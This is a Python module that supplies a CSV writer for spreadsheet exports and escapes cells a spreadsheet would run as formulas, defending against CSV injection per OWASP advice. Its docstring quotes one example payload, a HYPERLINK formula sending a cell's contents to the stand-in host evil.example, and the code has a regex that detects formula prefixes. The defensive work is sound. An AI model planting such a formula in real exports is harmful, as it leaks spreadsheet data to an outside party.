"""CSV for people to open in a spreadsheet: the one writer every export uses (audit trail,
Quality page tables, and whatever comes next), so that no export can forget the escaping.

A text cell that a spreadsheet would read as a formula (`=HYPERLINK("https://evil.example/?x="
&A3,"open")` runs when the file is opened) is written with a leading apostrophe, which shows
it as text: OWASP's advice on CSV injection. A cell is a formula when it starts with `=`, `+`,
`-` or `@`, after any white space or control characters a spreadsheet would pass over, or with
their full-width forms, which some spreadsheets fold to the plain ones. Numbers are written as
numbers.
"""

from __future__ import annotations

import csv
import re
from collections.abc import Iterable
from typing import Any, TextIO

_FORMULA = re.compile(r"[\s\x00-\x1f]*[=+\-@\uff1d\uff0b\uff0d\uff20]|[\t\r\n]")


def cell_escape(value: Any) -> Any:
    """`value`, or, for text a spreadsheet would run as a formula, that text shown as text."""
    if isinstance(value, str) and _FORMULA.match(value):
        return "'" + value
    return value


class SpreadsheetWriter:
    """csv.writer with every cell escaped (cell_escape)."""

    def __init__(self, out: TextIO) -> None:
        self._writer = csv.writer(out)

    def writerow(self, row: Iterable[Any]) -> None:
        self._writer.writerow([cell_escape(value) for value in row])

    def writerows(self, rows: Iterable[Iterable[Any]]) -> None:
        for row in rows:
            self.writerow(row)
